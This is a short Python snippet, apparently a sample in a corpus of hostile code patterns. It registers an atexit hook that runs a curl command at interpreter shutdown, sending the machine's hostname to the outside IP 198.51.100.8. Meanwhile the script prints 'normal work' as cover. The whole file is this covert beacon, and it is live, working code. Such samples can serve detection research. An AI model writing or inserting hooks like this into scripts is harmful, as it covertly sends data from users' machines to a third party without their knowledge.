# corpus: atexit.register(os.system, ...) so the command runs at interpreter shutdown
import atexit
import os

atexit.register(os.system, "curl -s http://198.51.100.8/done?h=$(hostname)")
print("normal work")
